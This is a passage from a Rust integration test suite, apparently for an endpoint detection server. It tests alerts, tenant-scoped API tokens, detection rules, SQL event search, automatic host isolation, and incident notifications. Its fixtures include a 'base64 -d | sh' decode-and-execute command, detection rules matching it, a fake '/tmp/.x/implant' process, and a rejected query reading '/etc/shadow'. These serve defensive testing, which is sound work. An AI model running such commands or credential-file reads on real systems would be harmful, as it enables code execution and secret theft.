    let reply: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(
        (&reply["stored"], &reply["unreadable"]),
        (&1.into(), &1.into()),
        "{reply}"
    );
    // Live detection on the uploaded Windows events, attributed to the host and tenant.
    let deadline = Instant::now() + Duration::from_secs(15);
    let found = loop {
        let a = alerts(&srv);
        if !a.is_empty() || Instant::now() > deadline {
            break a;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(
        !found.is_empty(),
        "no alert from the obfuscated PowerShell log"
    );
    assert!(
        found
            .iter()
            .all(|a| a["agent"] == "win:ws01" && a["tenant"] == "acme")
    );
    // One alert with its evidence; its status changed through the API, audited.
    let id = found[0]["id"].as_i64().unwrap();
    let (code, body) = curl(
        &srv,
        port,
        Some(&admin),
        &format!("/api/v1/alerts/{id}"),
        None,
    );
    assert_eq!(code, 200, "{body}");
    let one: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert!(
        one["evidence"].as_array().is_some_and(|e| !e.is_empty()),
        "{one}"
    );
    let change = |body: &str| {
        curl(
            &srv,
            port,
            Some(&admin),
            &format!("/api/v1/alerts/{id}/status"),
            Some(body),
        )
    };
    assert_eq!(
        change(r#"{"status":"closed","reason":"test: known admin script"}"#).0,
        200
    );
    assert_eq!(change(r#"{"status":"deleted"}"#).0, 400, "unknown status");
    assert_eq!(change("not json").0, 400);
    let path = format!("/api/v1/alerts/{id}/status");
    assert_eq!(
        curl(&srv, port, None, &path, Some(r#"{"status":"open"}"#)).0,
        401
    );
    assert_eq!(
        curl(&srv, port, Some(&admin), "/api/v1/alerts/999999", None).0,
        404
    );
    let (_, body) = curl(
        &srv,
        port,
        Some(&admin),
        "/api/v1/alerts?status=closed",
        None,
    );
    let closed: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(closed.as_array().map(Vec::len), Some(1), "{closed}");
    assert_eq!(closed[0]["id"], id);
    let out = mamori(&srv).args(["server", "audit"]).output().unwrap();
    let audit = String::from_utf8_lossy(&out.stdout);
    assert!(audit.contains("\"action\":\"alert.status\"") && audit.contains("known admin script"));
    assert!(audit.contains("\"action\":\"windows.upload\""));
    assert_eq!(stored_count(&srv, port, &admin, "win:ws01", stored), stored);
    // The host is in the inventory, known from its logs.
    let (_, body) = curl(&srv, port, Some(&admin), "/api/v1/hosts", None);
    let hosts: serde_json::Value = serde_json::from_str(&body).unwrap();
    let ws = hosts
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["agent"] == "win:ws01")
        .unwrap_or_else(|| panic!("{hosts}"));
    assert_eq!(
        (ws["status"].as_str(), ws["tenant"].as_str()),
        (Some("uploads"), Some("acme"))
    );
    assert_eq!(ws["health"]["events"].as_u64(), Some(stored));
    // Windows fields land in the shared columns.
    let (code, body) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        "/api/v1/events?sql=SELECT%20DISTINCT%20tenant,host_name,event_code%20FROM%20events%20WHERE%20host_id%3D'win:ws01'",
        None,
    );
    assert_eq!(code, 200, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert!(
        v["rows"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["tenant"] == "acme"
                && r["host_name"].is_string()
                && r["event_code"].is_string()),
        "{v}"
    );
    drop(server);
}

/// How many events of `agent` the columnar store holds, asked through the API (waits for
/// the compactor to move them there).
/// Events of `agent` in the columnar store, waiting (up to 20 s) until there are `expect`.
fn stored_count(srv: &Path, port: u16, token: &str, agent: &str, expect: u64) -> u64 {
    let sql = format!("SELECT count(*) AS n FROM events WHERE host_id = '{agent}'");
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let (code, body) = api(
            srv,
            port,
            Some(token),
            "POST",
            "/api/v1/events/query",
            Some(&serde_json::json!({"sql": sql}).to_string()),
        );
        assert_eq!(code, 200, "{body}");
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        let n = v["rows"][0]["n"].as_u64().unwrap();
        if n >= expect || Instant::now() > deadline {
            return n;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// An API call with any method and a JSON (or YAML) body.
fn api(
    srv: &Path,
    port: u16,
    token: Option<&str>,
    method: &str,
    path: &str,
    body: Option<&str>,
) -> (u32, String) {
    let mut c = Command::new("curl");
    c.args(["-s", "-w", "\n%{http_code}", "-X", method, "--cacert"])
        .arg(srv.join("server/pki/ca.pem"));
    if let Some(t) = token {
        c.args(["-H", &format!("Authorization: Bearer {t}")]);
    }
    if let Some(d) = body {
        c.args(["-H", "Content-Type: application/json", "--data-binary", d]);
    }
    let out = c
        .arg(format!("https://127.0.0.1:{port}{path}"))
        .output()
        .expect("curl runs");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

fn exec_event(pid: u32, cmd: &str) -> String {
    format!(
        r#"{{"@timestamp":"2026-11-26T10:00:00Z","event":{{"kind":"event","category":["process"],"type":["start"],"action":"exec","module":"mamori","dataset":"mamori.process"}},"host":{{"name":"web1","os":{{"type":"linux"}}}},"process":{{"pid":{pid},"entity_id":"boot:{pid}:1","executable":"/bin/sh","name":"sh","command_line":"{cmd}","args":["sh","-c","{cmd}"],"parent":{{"pid":1,"executable":"/usr/sbin/cron","command_line":"cron"}}}},"user":{{"id":"0","name":"root"}}}}"#
    )
}

/// Queues events in an agent's spool and ships them.
fn send(agent_data: &Path, events: &[String]) {
    let (mut sp, _) = mamori_spool::Spool::open(
        agent_data.join("spool"),
        mamori_spool::SpoolConfig::default(),
    )
    .unwrap();
    for e in events {
        sp.append(e.as_bytes()).unwrap();
    }
    sp.sync().unwrap();
    drop(sp);
    let (ok, e) = ship(agent_data, None);
    assert!(ok, "{e}");
}

/// Waits until `pred` holds for the alerts, or 10 s.
fn wait_alerts(srv: &Path, pred: impl Fn(&[serde_json::Value]) -> bool) -> Vec<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let a = alerts(srv);
        if pred(&a) || Instant::now() > deadline {
            return a;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn tokens_tenants_custom_rules_and_sql_search_over_the_api() {
    let srv = tempdir("server", "rbac-srv");
    let rules = srv.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("test.yml"),
        "title: Test Encoded Shell\nid: 5b7f6a4e-0000-4000-8000-00000000c0de\nstatus: test\n\
         level: high\nlogsource:\n  product: linux\n  category: process_creation\n\
         detection:\n  selection:\n    CommandLine|contains: 'base64 -d | sh'\n  condition: selection\n",
    )
    .unwrap();
    let port = free_port();
    let (server, fp) = start_server_with(&srv, port, &["--rules", rules.to_str().unwrap()]);
    let admin = server.admin.clone().unwrap();
    let call = |token: &str, method: &str, path: &str, body: Option<&str>| {
        let (code, text) = api(&srv, port, Some(token), method, path, body);
        let v = serde_json::from_str::<serde_json::Value>(&text)
            .unwrap_or(serde_json::Value::String(text));
        (code, v)
    };

    // Tokens through the API: a viewer bound to tenant acme, an analyst for all tenants.
    let (code, v) = call(
        &admin,
        "POST",
        "/api/v1/tokens",
        Some(r#"{"name":"acme-viewer","role":"viewer","tenant":"acme"}"#),
    );
    assert_eq!(code, 201, "{v}");
    let viewer = v["token"].as_str().unwrap().to_string();
    let viewer_id = v["id"].as_i64().unwrap();
    let (code, v) = call(
        &admin,
        "POST",
        "/api/v1/tokens",
        Some(r#"{"name":"soc","role":"analyst"}"#),
    );
    assert_eq!(code, 201, "{v}");
    let analyst = v["token"].as_str().unwrap().to_string();
    assert_eq!(
        call(
            &admin,
            "POST",
            "/api/v1/tokens",
            Some(r#"{"name":"x","role":"root"}"#)
        )
        .0,
        400
    );
    assert_eq!(
        call(&analyst, "GET", "/api/v1/tokens", None).0,
        403,
        "admins only"
    );

    // Enrollment tokens through the API.
    assert_eq!(
        call(&viewer, "POST", "/api/v1/enrollment-tokens", Some("{}")).0,
        403
    );
    let (code, v) = call(
        &admin,
        "POST",
        "/api/v1/enrollment-tokens",
        Some(r#"{"tenant":"acme","uses":1,"ttl_seconds":600}"#),
    );
    assert_eq!(code, 201, "{v}");
    assert_eq!(v["ca_fingerprint"], fp.as_str());
    let (code, listed) = call(&admin, "GET", "/api/v1/enrollment-tokens", None);
    assert_eq!(code, 200);
    assert!(
        listed
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t["id"] == v["id"])
    );
    assert!(
        !listed.to_string().contains(v["token"].as_str().unwrap()),
        "no secrets listed"
    );
    let a = tempdir("server", "rbac-a");
    enroll(&a, port, v["token"].as_str().unwrap(), &fp).unwrap();
    let b = tempdir("server", "rbac-b");
    enroll(&b, port, &token(&srv, &["--tenant", "other"]), &fp).unwrap();

    send(
        &a,
        &[
            exec_event(100, "echo aGk= | base64 -d | sh"),
            exec_event(200, "ls /tmp"),
        ],
    );
    send(&b, &[exec_event(300, "echo aGk= | base64 -d | sh")]);
    let all = wait_alerts(&srv, |a| a.len() >= 2);
    assert_eq!(all.len(), 2, "{all:?}");
    let other_id = all.iter().find(|a| a["tenant"] == "other").unwrap()["id"]
        .as_i64()
        .unwrap();

    // The viewer sees its tenant only, and changes nothing.
    let (code, v) = call(&viewer, "GET", "/api/v1/alerts", None);
    assert_eq!(code, 200);
    assert_eq!(v.as_array().unwrap().len(), 1);
    assert_eq!(v[0]["tenant"], "acme");
    assert_eq!(
        call(&viewer, "GET", "/api/v1/alerts?tenant=other", None).0,
        403
    );
    assert_eq!(
        call(&viewer, "GET", &format!("/api/v1/alerts/{other_id}"), None).0,
        404
    );
    assert_eq!(
        call(&admin, "GET", &format!("/api/v1/alerts/{other_id}"), None).0,
        200
    );
    let (code, v) = call(
        &viewer,
        "POST",
        &format!("/api/v1/alerts/{other_id}/status"),
        Some(r#"{"status":"closed"}"#),
    );
    assert_eq!(code, 403, "{v}");
    let (_, hosts) = call(&viewer, "GET", "/api/v1/hosts", None);
    assert_eq!(hosts.as_array().unwrap().len(), 1);
    assert_eq!(hosts[0]["tenant"], "acme");

    // SQL over stored events: the viewer's table holds acme's events only.
    assert_eq!(stored_count(&srv, port, &admin, &agent_id(&b), 1), 1);
    assert_eq!(stored_count(&srv, port, &admin, &agent_id(&a), 2), 2);
    let sql = "SELECT count(*) AS n, count(DISTINCT tenant) AS t FROM events";
    let (code, v) = call(
        &viewer,
        "POST",
        "/api/v1/events/query",
        Some(&serde_json::json!({"sql": sql}).to_string()),
    );
    assert_eq!(code, 200, "{v}");
    assert_eq!(
        (v["rows"][0]["n"].as_i64(), v["rows"][0]["t"].as_i64()),
        (Some(2), Some(1))
    );
    let (code, v) = call(
        &admin,
        "POST",
        "/api/v1/events/query",
        Some(&serde_json::json!({"sql": sql}).to_string()),
    );
    assert_eq!(code, 200);
    assert_eq!(v["rows"][0]["n"], 3);
    let (code, csv) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        "/api/v1/events?format=csv&sql=SELECT%20process_pid,process_command_line%20FROM%20events%20WHERE%20process_pid%3D200",
        None,
    );
    assert_eq!(code, 200, "{csv}");
    assert_eq!(csv, "process_pid,process_command_line\r\n200,ls /tmp\r\n");
    let (code, v) = call(
        &admin,
        "GET",
        "/api/v1/events?sql=SELECT%20nope%20FROM%20events",
        None,
    );
    assert_eq!(code, 400);
    assert!(v["error"].as_str().unwrap().contains("nope"), "{v}");
    let ddl =
        serde_json::json!({"sql": "CREATE EXTERNAL TABLE x STORED AS CSV LOCATION '/etc/shadow'"})
            .to_string();
    let (code, v) = call(&admin, "POST", "/api/v1/events/query", Some(&ddl));
    assert_eq!(code, 400, "{v}");
    assert_eq!(
        call(
            &viewer,
            "GET",
            "/api/v1/events?sql=SELECT%201&tenant=other",
            None
        )
        .0,
        403
    );
    // The CLI through the API, with the viewer's token: its tenant's events only.
    let url = format!("https://127.0.0.1:{port}");
    let rows = query_with(
        &srv,
        &["--server", &url, "--token", &viewer],
        "SELECT count(*) AS n FROM events",
    );
    assert_eq!(rows[0]["n"], 2, "{rows:?}");
    let out = mamori(&srv)
        .args(["query", "--server", &url, "--token", &viewer])
        .arg("SELECT nope FROM events")
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("400"),
        "{out:?}"
    );

    // Custom rules: validated against the running set, refused with a reason.
    let custom = "title: Test Listing Tmp\nid: 7d0c1f00-0000-4000-8000-0000000000aa\nstatus: test\nlevel: medium\n\
                  logsource:\n  product: linux\n  category: process_creation\n\
                  detection:\n  selection:\n    CommandLine: 'ls /tmp'\n  condition: selection\n";
    let (code, v) = call(
        &analyst,
        "POST",
        "/api/v1/rules",
        Some(
            "title: Broken\nid: 7d0c1f00-0000-4000-8000-0000000000bb\nlogsource:\n  product: linux\ndetection:\n  sel:\n    a: b\n  condition: sel and nothing\n",
        ),
    );
    assert_eq!(code, 400, "{v}");
    assert!(
        v["error"].as_str().unwrap().starts_with("rule refused"),
        "{v}"
    );
    let (code, v) = call(
        &analyst,
        "POST",
        "/api/v1/rules",
        Some(&custom.replace("id: 7d0c1f00-0000-4000-8000-0000000000aa\n", "")),
    );
    assert_eq!(code, 400);
    assert!(
        v["error"].as_str().unwrap().contains("needs an `id`"),
        "{v}"
    );
    assert_eq!(call(&viewer, "POST", "/api/v1/rules", Some(custom)).0, 403);
    let (code, v) = call(&analyst, "POST", "/api/v1/rules", Some(custom));
    assert_eq!(code, 201, "{v}");
    assert_eq!(
        call(&analyst, "POST", "/api/v1/rules", Some(custom)).0,
        409,
        "same id again"
    );
    let (_, v) = call(&viewer, "GET", "/api/v1/rules?custom=true", None);
    assert_eq!(v.as_array().unwrap().len(), 1);
    assert_eq!(v[0]["title"], "Test Listing Tmp");
    // Disable the base rule; the custom one alerts at once.
    let base = "5b7f6a4e-0000-4000-8000-00000000c0de";
    let (code, v) = call(
        &analyst,
        "POST",
        &format!("/api/v1/rules/{base}/disable"),
        Some(r#"{"reason":"too noisy"}"#),
    );
    assert_eq!(code, 200, "{v}");
    assert_eq!(
        call(&analyst, "POST", "/api/v1/rules/no-such-rule/disable", None).0,
        404
    );
    send(
        &a,
        &[
            exec_event(101, "echo aGk= | base64 -d | sh"),
            exec_event(201, "ls /tmp"),
        ],
    );
    let now = wait_alerts(&srv, |a| {
        a.iter().any(|x| x["rule_title"] == "Test Listing Tmp")
    });
    assert!(
        now.iter().any(|x| x["rule_title"] == "Test Listing Tmp"),
        "{now:?}"
    );
    assert!(
        !now.iter().any(|x| x["process_entity"] == "boot:101:1"),
        "a disabled rule raised an alert"
    );
    // Enabled again: alerts again.
    assert_eq!(
        call(
            &analyst,
            "POST",
            &format!("/api/v1/rules/{base}/enable"),
            None
        )
        .0,
        200
    );
    send(&a, &[exec_event(102, "echo aGk= | base64 -d | sh")]);
    let now = wait_alerts(&srv, |a| {
        a.iter().any(|x| x["process_entity"] == "boot:102:1")
    });
    assert!(
        now.iter().any(|x| x["process_entity"] == "boot:102:1"),
        "{now:?}"
    );
    assert_eq!(
        call(
            &analyst,
            "DELETE",
            "/api/v1/rules/7d0c1f00-0000-4000-8000-0000000000aa",
            None
        )
        .0,
        200
    );
    let (_, v) = call(&viewer, "GET", "/api/v1/rules?custom=true", None);
    assert_eq!(v.as_array().unwrap().len(), 0);

    // Revocation; the last administrator token stays.
    assert_eq!(
        call(
            &admin,
            "DELETE",
            &format!("/api/v1/tokens/{viewer_id}"),
            None
        )
        .0,
        200
    );
    assert_eq!(call(&viewer, "GET", "/api/v1/alerts", None).0, 401);
    let (_, tokens) = call(&admin, "GET", "/api/v1/tokens", None);
    let admin_id = tokens
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["role"] == "admin")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let (code, v) = call(
        &admin,
        "DELETE",
        &format!("/api/v1/tokens/{admin_id}"),
        None,
    );
    assert_eq!(code, 409, "{v}");

    // Every change is audited with the token that made it.
    let out = mamori(&srv).args(["server", "audit"]).output().unwrap();
    let audit = String::from_utf8_lossy(&out.stdout);
    for action in [
        "api-token.create",
        "api-token.revoke",
        "enroll-token.create",
        "rule.add",
        "rule.disable",
        "rule.enable",
        "rule.delete",
    ] {
        assert!(
            audit.contains(&format!("\"action\":\"{action}\"")),
            "{action}: {audit}"
        );
    }
    assert!(
        audit.contains("\"actor\":\"token:") && audit.contains(":soc\""),
        "{audit}"
    );
    assert!(audit.contains("too noisy"));
    assert!(
        !audit.contains(&viewer) && !audit.contains(&analyst),
        "a secret in the audit log"
    );
}

#[test]
fn severity_from_evidence_and_automatic_containment_of_critical_alerts() {
    let srv = tempdir("server", "soc-srv");
    let rules = srv.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("r.yml"),
        "title: Test Piped Shell\nid: 5b7f6a4e-0000-4000-8000-00000000c5e1\nstatus: test\n\
         level: high\ntags:\n  - attack.execution\nlogsource:\n  product: linux\n  category: process_creation\n\
         detection:\n  selection:\n    CommandLine|contains: 'sevtest | sh'\n  condition: selection\n",
    )
    .unwrap();
    let port = free_port();
    let (server, fp) = start_server_with(&srv, port, &["--rules", rules.to_str().unwrap()]);
    let admin = server.admin.clone().unwrap();
    let a = tempdir("server", "soc-agent");
    enroll(&a, port, &token(&srv, &[]), &fp).unwrap();
    let agent = agent_id(&a);
    let connect = |pid: u32, parent: u32, ip: &str| {
        format!(
            r#"{{"@timestamp":"2026-11-26T10:00:01Z","event":{{"kind":"event","category":["network"],"type":["connection","start"],"action":"connect","module":"mamori","dataset":"mamori.network"}},"host":{{"name":"web1"}},"process":{{"pid":{pid},"entity_id":"boot:{pid}:1","executable":"/usr/bin/curl","name":"curl","parent":{{"pid":{parent},"entity_id":"boot:{parent}:1"}}}},"destination":{{"ip":"{ip}","port":443}},"network":{{"transport":"tcp"}}}}"#
        )
    };
    // Two matching trees; one child talks to an internal address, the other to an external one.
    send(
        &a,
        &[
            exec_event(500, "echo x | sevtest | sh"),
            exec_event(600, "echo y | sevtest | sh"),
        ],
    );
    let v = wait_alerts(&srv, |v| v.len() >= 2);
    assert!(
        v.iter().all(|a| a["severity"] == "high"),
        "high until more is known: {v:?}"
    );
    assert!(
        v[0]["severity_reasons"][0]
            .as_str()
            .unwrap()
            .contains("rule level high"),
        "{v:?}"
    );
    send(
        &a,
        &[
            connect(601, 600, "10.1.2.3"),
            connect(501, 500, "203.0.113.9"),
        ],
    );
    let v = wait_alerts(&srv, |v| v.iter().any(|a| a["severity"] == "critical"));
    let critical: Vec<_> = v.iter().filter(|a| a["severity"] == "critical").collect();
    assert_eq!(critical.len(), 1, "{v:?}");
    assert_eq!(critical[0]["process_entity"], "boot:500:1");
    let reasons = critical[0]["severity_reasons"].to_string();
    assert!(
        reasons.contains("203.0.113.9:443") && reasons.contains("raised to critical"),
        "{reasons}"
    );
    let other = v
        .iter()
        .find(|a| a["process_entity"] == "boot:600:1")
        .unwrap();
    assert_eq!(
        other["severity"], "high",
        "an internal address is not external communication"
    );
    // The policy isolates the host of a Critical alert at once, recorded as automatic.
    let deadline = Instant::now() + Duration::from_secs(10);
    let iso = loop {
        let (_, body) = api(
            &srv,
            port,
            Some(&admin),
            "GET",
            &format!("/api/v1/actions?agent={agent}"),
            None,
        );
        let list: serde_json::Value = serde_json::from_str(&body).unwrap();
        let found = list
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["action"] == "isolate")
            .cloned();
        if found.is_some() || Instant::now() > deadline {
            break found;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let iso = iso.expect("an automatic isolation");
    assert_eq!(iso["issued_by"], "policy:auto-contain");
    assert!(
        iso["reason"].as_str().unwrap().contains("203.0.113.9"),
        "{iso}"
    );
    // More critical evidence on the same host does not queue a second isolation.
    send(
        &a,
        &[
            exec_event(700, "echo z | sevtest | sh"),
            connect(701, 700, "198.51.100.7"),
        ],
    );
    wait_alerts(&srv, |v| {
        v.iter().filter(|a| a["severity"] == "critical").count() >= 2
    });
    std::thread::sleep(Duration::from_millis(500));
    let (_, body) = api(
        &srv,
        port,
        Some(&admin),
        "GET",
        &format!("/api/v1/actions?agent={agent}"),
        None,
    );
    let n = serde_json::from_str::<serde_json::Value>(&body)
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["action"] == "isolate")
        .count();
    assert_eq!(n, 1, "one isolation pending is enough");
}

/// A webhook receiver on loopback: each request's (path, headers, body).
fn webhook_receiver() -> (u16, mpsc::Receiver<(String, String, String)>) {
    use std::io::{Read, Write};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = Vec::new();
            let mut chunk = [0u8; 65536];
            let (head, body) = loop {
                let n = s.read(&mut chunk).unwrap_or(0);
                if n == 0 {
                    break (String::new(), String::new());
                }
                buf.extend_from_slice(&chunk[..n]);
                let text = String::from_utf8_lossy(&buf).to_string();
                if let Some((head, body)) = text.split_once("\r\n\r\n") {
                    let len: usize = head
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse().unwrap_or(0))
                        })
                        .unwrap_or(0);
                    if body.len() >= len {
                        break (head.to_string(), body.to_string());
                    }
                }
            };
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
            let path = head.split_whitespace().nth(1).unwrap_or("").to_string();
            let _ = tx.send((path, head, body));
        }
    });
    (port, rx)
}

struct Smtpd(Child);
impl Drop for Smtpd {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A real SMTP server (aiosmtpd) delivering into a Maildir; with `tls` (certificate and key
/// files) it offers STARTTLS and refuses mail without it.
fn smtp_server(maildir: &Path, tls: Option<(&Path, &Path)>) -> (Smtpd, u16) {
    let port = free_port();
    let mut c = Command::new("/usr/bin/python3");
    c.args(["-m", "aiosmtpd", "-n", "-l", &format!("127.0.0.1:{port}")]);
    if let Some((cert, key)) = tls {
        c.arg("--tlscert").arg(cert).arg("--tlskey").arg(key);
    }
    let child = c
        .args(["-c", "aiosmtpd.handlers.Mailbox"])
        .arg(maildir)
        .stderr(Stdio::null())
        .spawn()
        .expect("python3 with aiosmtpd (apt install python3-aiosmtpd; scripts/deps.sh does)");
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            Instant::now() < deadline,
            "aiosmtpd did not start (apt install python3-aiosmtpd)"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    (Smtpd(child), port)
}

fn mails(maildir: &Path) -> Vec<String> {
    let mut out: Vec<String> = std::fs::read_dir(maildir.join("new"))
        .map(|d| {
            d.flatten()
                .filter_map(|e| std::fs::read_to_string(e.path()).ok())
                .collect()
        })
        .unwrap_or_default();
    out.sort();
    out
}

fn get_json(srv: &Path, port: u16, token: &str, path: &str) -> serde_json::Value {
    let (code, body) = api(srv, port, Some(token), "GET", path, None);
    assert_eq!(code, 200, "{path}: {body}");
    serde_json::from_str(&body).unwrap_or_else(|e| panic!("{path}: {e}: {body}"))
}

#[test]
fn incidents_verdicts_notifications_reports_and_tuning() {
    let srv = tempdir("server", "incident-srv");
    let rules = srv.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("r.yml"),
        "title: Test Piped Shell\nid: 5b7f6a4e-0000-4000-8000-00000000c5e2\nstatus: test\n\
         level: high\ntags:\n  - attack.execution\n  - attack.t1059.004\nlogsource:\n  product: linux\n  category: process_creation\n\
         detection:\n  selection:\n    CommandLine|contains: 'inctest | sh'\n  condition: selection\n\
         ---\n\
         title: Test Admin Noise\nid: 5b7f6a4e-0000-4000-8000-00000000c5e3\nstatus: test\n\
         level: medium\ntags:\n  - attack.discovery\nlogsource:\n  product: linux\n  category: process_creation\n\
         detection:\n  selection:\n    CommandLine|contains: 'noisetest'\n  condition: selection\n",
    )
    .unwrap();
    // The mail server speaks STARTTLS with a certificate from a private CA, which the policy
    // names (`ca_file`); it refuses mail without TLS.
    let ca = mamori_pki::Ca::generate("Test mail CA").unwrap();
    let cert = ca.issue_server(&["localhost".to_string()]).unwrap();
    let (ca_pem, cert_pem, key_pem) = (
        srv.join("mail-ca.pem"),
        srv.join("mail-cert.pem"),
        srv.join("mail-key.pem"),
    );
    std::fs::write(&ca_pem, ca.cert_pem()).unwrap();
    std::fs::write(&cert_pem, &cert.cert_pem).unwrap();
    std::fs::write(&key_pem, &cert.key_pem).unwrap();
    let maildir = srv.join("maildir");
    let (_smtpd, smtp_port) = smtp_server(&maildir, Some((&cert_pem, &key_pem)));
    let (hook_port, hooks) = webhook_receiver();
    // A channel whose receiver is down: its failure is recorded, the others are unaffected.
    let down_port = free_port();
    let policy = srv.join("soc-policy.toml");
    std::fs::write(
        &policy,
        format!(
            "[incidents]\nreport_quiet_seconds = 1\n\
             [smtp]\nserver = \"localhost:{smtp_port}\"\nfrom = \"mamori@example.com\"\ntls = \"starttls\"\nca_file = \"{}\"\n\
             [[notify]]\nkind = \"email\"\nto = [\"soc@example.com\"]\nmin_severity = \"high\"\nlanguage = \"ja\"\n\
             [[notify]]\nkind = \"webhook\"\nurl = \"http://127.0.0.1:{hook_port}/hook\"\nmin_severity = \"high\"\nsecret_env = \"TEST_HOOK_KEY\"\n\
             [[notify]]\nkind = \"slack\"\nurl = \"http://127.0.0.1:{hook_port}/slack\"\nmin_severity = \"critical\"\n\
             [[notify]]\nkind = \"teams\"\nurl = \"http://127.0.0.1:{hook_port}/teams\"\nmin_severity = \"critical\"\n\
             [[notify]]\nkind = \"webhook\"\nurl = \"http://127.0.0.1:{down_port}/down\"\nmin_severity = \"critical\"\n",
            ca_pem.display()
        ),
    )
    .unwrap();
    let config = srv.join("server.toml");
    std::fs::write(
        &config,
        format!("soc_policy = \"{}\"\nflush_seconds = 1\n", policy.display()),
    )
    .unwrap();
    let port = free_port();
    let (server, fp) = start_server_env(
        &srv,
        port,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--config",
            config.to_str().unwrap(),
        ],
        &[("TEST_HOOK_KEY", "hook-secret")],
    );
    let admin = server.admin.clone().unwrap();
    let a = tempdir("server", "incident-agent");
    enroll(&a, port, &token(&srv, &[]), &fp).unwrap();
    let exec = |pid: u32, parent: u32, user: &str, cmd: &str| {
        format!(
            r#"{{"@timestamp":"2026-11-26T10:00:00Z","event":{{"kind":"event","category":["process"],"type":["start"],"action":"exec","module":"mamori","dataset":"mamori.process"}},"host":{{"name":"web1","os":{{"type":"linux"}}}},"process":{{"pid":{pid},"entity_id":"boot:{pid}:1","executable":"/tmp/.x/implant","name":"implant","command_line":"{cmd}","hash":{{"sha256":"{}"}},"parent":{{"pid":{parent},"entity_id":"boot:{parent}:1","executable":"/usr/sbin/sshd"}}}},"user":{{"name":"{user}"}}}}"#,
            "ab".repeat(32)
        )
    };
    // Another program (its own hash: not the same file spreading).
    let admin_exec = |pid: u32, user: &str, cmd: &str| {
        exec(pid, 1, user, cmd)
            .replace("/tmp/.x/implant", "/usr/local/bin/inventory")
            .replace(&"ab".repeat(32), &"cd".repeat(32))
    };
    let connect = |pid: u32, parent: u32, ip: &str| {
        format!(
            r#"{{"@timestamp":"2026-11-26T10:00:01Z","event":{{"kind":"event","category":["network"],"type":["connection","start"],"action":"connect","module":"mamori","dataset":"mamori.network"}},"host":{{"name":"web1"}},"process":{{"pid":{pid},"entity_id":"boot:{pid}:1","executable":"/usr/bin/curl","name":"curl","parent":{{"pid":{parent},"entity_id":"boot:{parent}:1"}}}},"destination":{{"ip":"{ip}","port":443}},"network":{{"transport":"tcp"}}}}"#
        )
    };
    // An attack: two detections on one tree, then a connection out; and admin noise by
    // another account, which must stay a separate, lesser incident.
    send(
        &a,
        &[
            exec(500, 400, "alice", "echo a | inctest | sh"),
            exec(501, 500, "alice", "echo b | inctest | sh"),
            connect(502, 500, "203.0.113.9"),
            admin_exec(900, "bob", "noisetest --all"),
        ],
    );
    let deadline = Instant::now() + Duration::from_secs(20);
    let incidents = loop {
        let v = get_json(&srv, port, &admin, "/api/v1/incidents");
        let list = v.as_array().unwrap().clone();
        if list
            .iter()
            .any(|i| i["severity"] == "critical" && i["alerts"] == 2)
            || Instant::now() > deadline
        {
            break list;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(incidents.len(), 2, "{incidents:?}");
    let critical = incidents
        .iter()
        .find(|i| i["severity"] == "critical")
        .unwrap_or_else(|| panic!("{incidents:?}"));
    assert_eq!(critical["alerts"], 2, "one tree, one incident: {critical}");
    let noise = incidents
        .iter()
        .find(|i| i["severity"] == "medium")
        .unwrap();
    assert_eq!(noise["alerts"], 1);
    let id = critical["id"].as_i64().unwrap();
    // Destinations and the file's trajectory come from the event store (once compacted).
    let deadline = Instant::now() + Duration::from_secs(20);
    let inc = loop {
        let inc = get_json(&srv, port, &admin, &format!("/api/v1/incidents/{id}"));
        if (inc["destinations"]
            .as_array()
            .is_some_and(|d| !d.is_empty())
            && inc["files"][0]["seen_on"]
                .as_array()
                .is_some_and(|s| !s.is_empty()))
            || Instant::now() > deadline
        {
            break inc;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    assert_eq!(inc["verdict"], "malicious", "{inc}");
    assert!(
        inc["verdict_reasons"].to_string().contains("203.0.113.9"),
        "{inc}"
    );
    assert_eq!(inc["hosts"][0]["name"], "web1");
    assert_eq!(inc["users"], serde_json::json!(["alice"]));
    assert!(
        inc["destinations"]
            .as_array()
            .unwrap()
            .iter()
